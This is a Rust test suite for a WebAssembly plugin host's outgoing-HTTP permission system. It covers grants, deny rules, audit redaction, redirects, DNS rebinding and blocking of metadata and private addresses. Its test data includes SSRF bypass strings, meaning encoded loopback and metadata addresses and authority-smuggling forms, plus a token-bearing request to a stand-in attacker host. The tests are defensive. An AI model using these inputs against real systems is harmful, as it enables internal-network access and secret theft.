//! What may be asked for, and of whom.

use std::net::IpAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use plugbay::audit::{Event, Verdict};
use plugbay::grants::{HostName, HttpRule, Resolve, ResolveError};
use plugbay::{ErrorKind, Grants};

use crate::guest::bindings::Request;
use crate::guest::{base, body, compile, entries, get, host, live, plugin, request, send};
use crate::server::{Server, ok};

const DENIED: &str = "HttpRequestDenied";
const PROHIBITED: &str = "DestinationIpProhibited";

#[test]
fn without_a_grant_it_is_not_linked_and_without_a_rule_nothing_is_reached() {
    let server = Server::answering(ok(""));
    let host = host(|builder| builder);
    let compiled = compile(&host);
    let error = compiled.link(&base()).unwrap_err();
    let ErrorKind::Denied { missing } = error.kind() else { panic!("{error}") };
    assert!(missing.iter().any(|missing| missing.import.starts_with("wasi:http/outgoing-handler")));
    assert!(error.to_string().contains("--allow-http=https://HOST"), "{error}");
    let mut plugin = live(&compiled.link(&base().allow("wasi:http")).unwrap());
    assert_eq!(send(&mut plugin, &get(&server.url("/"))).unwrap_err(), PROHIBITED);
    assert_eq!(send(&mut plugin, &get("https://api.acme.dev/")).unwrap_err(), DENIED);
    assert!(server.was_left_alone());
    let typo = compiled.link(&base().allow_http("https://api.acme.dev/v1")).unwrap_err();
    assert!(typo.to_string().contains("whole origin"), "{typo}");
}

#[test]
fn each_part_of_a_rule_counts_and_a_denial_wins() {
    let (server, other) = (Server::answering(ok("yes")), Server::answering(ok("no")));
    let host = host(|builder| builder);
    let rule = HttpRule::to(&server.origin()).unwrap().methods(["GET", "PUT"]).unwrap();
    let deny = HttpRule::to(&server.origin()).unwrap().methods(["PUT"]).unwrap();
    let grants = base().allow_with("wasi:http", &rule).deny_with("wasi:http", &deny);
    let mut plugin = live(&compile(&host).link(&grants).unwrap());
    assert_eq!(body(&send(&mut plugin, &get(&server.url("/"))).unwrap()), "yes");
    server.next();
    for (method, url) in [
        ("PUT", server.url("/")),
        ("POST", server.url("/")),
        ("put", server.url("/")),
        ("GET", other.url("/")),
        ("GET", server.url("/").replace("http:", "https:")),
        ("GET", server.url("/").replace("127.0.0.1", "127.0.0.2")),
    ] {
        assert_eq!(send(&mut plugin, &request(method, &url)).unwrap_err(), PROHIBITED, "{method} {url}");
    }
    // Rules do not go by addresses here: the name is another host.
    let name = server.url("/").replace("127.0.0.1", "localhost");
    assert_eq!(send(&mut plugin, &get(&name)).unwrap_err(), DENIED);
    assert_eq!(
        send(&mut plugin, &request("CONNECT", &server.url("/"))).unwrap_err(),
        "HttpRequestMethodInvalid"
    );
    let ftp = Request { scheme: Some("ftp".into()), ..get(&server.url("/")) };
    assert_eq!(send(&mut plugin, &ftp).unwrap_err(), "HttpRequestUriInvalid");
    assert!(server.was_left_alone() && other.was_left_alone());
}

#[test]
fn the_audit_tells_where_to_and_no_secrets() {
    let server = Server::answering(ok("yes"));
    let events: Arc<Mutex<Vec<Event>>> = Arc::default();
    let sink = events.clone();
    let host = host(|builder| builder.audit(move |event: &Event| sink.lock().unwrap().push(event.clone())));
    let mut plugin = live(&compile(&host).link(&base().allow_http(&server.origin())).unwrap());
    let headers = entries(&[("authorization", "Bearer hunter2")]);
    send(&mut plugin, &Request { headers, ..get(&server.url("/private?token=hunter2")) }).unwrap();
    send(&mut plugin, &get("https://evil.example/?token=hunter2")).unwrap_err();
    let events = events.lock().unwrap();
    assert!(!format!("{events:?}").contains("hunter2") && !format!("{events:?}").contains("private"));
    let told = |verdict: Verdict| -> Vec<_> {
        let of = events.iter().filter(|event| event.verdict == verdict && event.target.is_some());
        of.map(|event| (event.capability.clone(), event.target.clone().unwrap_or_default())).collect()
    };
    assert_eq!(told(Verdict::Allowed), [("wasi:http".to_owned(), format!("{} GET", server.origin()))]);
    assert_eq!(told(Verdict::Denied), [("wasi:http".into(), "https://evil.example:443 GET".into())]);
}

#[test]
fn e12_redirects_are_requests_of_the_guest_and_decided_anew() {
    let inner = Server::answering(ok("secret"));
    let answer = format!("HTTP/1.1 302 Found\r\nLocation: {}\r\nContent-Length: 0\r\n\r\n", inner.url("/"));
    let server = Server::answering(answer);
    let mut plugin = plugin(&[&server.origin()]);
    let answer = send(&mut plugin, &get(&server.url("/"))).unwrap();
    let (_, location) = answer.headers.iter().find(|(name, _)| name == "Location").unwrap();
    assert_eq!(answer.status, 302);
    let location = std::str::from_utf8(location).unwrap();
    assert_eq!(send(&mut plugin, &get(location)).unwrap_err(), PROHIBITED);
    assert!(inner.was_left_alone());
}

/// Answers with one list after the other, and counts.
struct Turns {
    answers: Vec<Vec<&'static str>>,
    asked: Arc<AtomicUsize>,
}

impl Resolve for Turns {
    fn resolve(&self, _: &HostName) -> Result<Vec<IpAddr>, ResolveError> {
        let turn = self.asked.fetch_add(1, Ordering::SeqCst);
        let answer = self.answers.get(turn % self.answers.len()).ok_or(ResolveError::NotFound)?;
        Ok(answer.iter().map(|address| address.parse().unwrap()).collect())
    }
}

fn resolving(
    answers: &[&[&'static str]],
    grants: &Grants,
) -> (crate::guest::bindings::Fetch<()>, Arc<AtomicUsize>) {
    let asked = Arc::new(AtomicUsize::new(0));
    let answers = answers.iter().map(|answer| answer.to_vec()).collect();
    let turns = Turns { answers, asked: asked.clone() };
    let host = host(|builder| builder.resolver(turns));
    (live(&compile(&host).link(grants).unwrap()), asked)
}

#[test]
fn e12_a_name_that_leads_inside_is_not_followed_there() {
    let server = Server::answering(ok("secret"));
    let url = format!("http://rebind.example:{}/", server.port());
    let name = base().allow_http(&format!("http://rebind.example:{}", server.port()));
    let any = base().allow_http("http://*:*");
    for inside in [
        "127.0.0.1",
        "::1",
        "::ffff:127.0.0.1",
        "169.254.169.254",
        "fd00:ec2::254",
        "10.0.0.1",
        "192.168.1.1",
        "0.0.0.0",
        "100.64.0.1",
        "64:ff9b::7f00:1",
        "2002:7f00:1::",
        "224.0.0.1",
        "::",
        "fe80::1",
    ] {
        for grants in [&name, &any] {
            let (mut plugin, asked) = resolving(&[&[inside]], grants);
            assert_eq!(send(&mut plugin, &get(&url)).unwrap_err(), PROHIBITED, "{inside}");
            assert_eq!(asked.load(Ordering::SeqCst), 1);
        }
    }
    // Nobody is asked about what may not be asked for.
    let (mut plugin, asked) = resolving(&[&["127.0.0.1"]], &name);
    assert_eq!(send(&mut plugin, &get("http://other.example/")).unwrap_err(), DENIED);
    assert_eq!(asked.load(Ordering::SeqCst), 0);
    assert!(server.was_left_alone());
}

#[test]
fn e12_the_address_that_was_checked_is_the_one_connected_to() {
    let server = Server::answering(ok("inside"));
    let url = format!("http://intern.example:{}/", server.port());
    let here = format!("http://127.0.0.1:{}", server.port());
    let grants = base().allow_http(&url).allow_http(&here);
    // The second answer would be another address; there is no second question.
    let (mut plugin, asked) = resolving(&[&["10.9.9.9", "127.0.0.1"], &["10.9.9.9"]], &grants);
    assert_eq!(body(&send(&mut plugin, &get(&url)).unwrap()), "inside");
    assert_eq!(asked.load(Ordering::SeqCst), 1);
    assert_eq!(server.next().fields[0], format!("Host: intern.example:{}", server.port()));
    assert_eq!(send(&mut plugin, &get(&url)).unwrap_err(), PROHIBITED, "the second answer leads elsewhere");
}

#[test]
fn e12_metadata_and_private_addresses_are_not_of_the_internet() {
    let mut plugin = plugin(&["http://*:*", "https://*:*"]);
    for address in [
        "169.254.169.254",
        "[fd00:ec2::254]",
        "100.100.100.200",
        "[::ffff:169.254.169.254]",
        "[::ffff:a9fe:a9fe]",
        "[64:ff9b::a9fe:a9fe]",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.0.1",
        "127.0.0.1",
        "[::1]",
        "0.0.0.0",
        "[::]",
        "[fe80::1]",
        "[fc00::1]",
        "224.0.0.1",
        "255.255.255.255",
    ] {
        let error = send(&mut plugin, &get(&format!("http://{address}/latest/meta-data/"))).unwrap_err();
        assert_eq!(error, PROHIBITED, "{address}");
    }
    for other_words in [
        "127.1",
        "0x7f.1",
        "0x7f000001",
        "2130706433",
        "0177.0.0.1",
        "127.0.0.1.",
        "169.254.43518",
        "user@127.0.0.1",
        "example.com:80@127.0.0.1",
        "127.0.0.1%00.example.com",
        "bücher.example",
        "①②⑦.0.0.1",
        "[::1%25lo]",
        "::1",
        "example.com\\@127.0.0.1",
        "example.com#@127.0.0.1",
        "exa mple.com",
        "-a.example",
        "a..example",
    ] {
        let error = send(&mut plugin, &Request { authority: Some(other_words.into()), ..get("http://x/") });
        assert_eq!(error.unwrap_err(), "bad authority", "{other_words}");
    }
}

#[test]
fn what_is_taken_back_is_not_used_any_more() {
    let server = Server::answering(ok("yes"));
    let host = host(|builder| builder);
    let linked = compile(&host).link(&base().allow_http(&server.origin())).unwrap();
    let mut plugin = live(&linked);
    send(&mut plugin, &get(&server.url("/"))).unwrap();
    linked.revoker().revoke("wasi:http").unwrap();
    let error = plugin.send(&get(&server.url("/"))).unwrap_err();
    assert!(matches!(error.kind(), ErrorKind::Denied { .. }), "{error}");
}
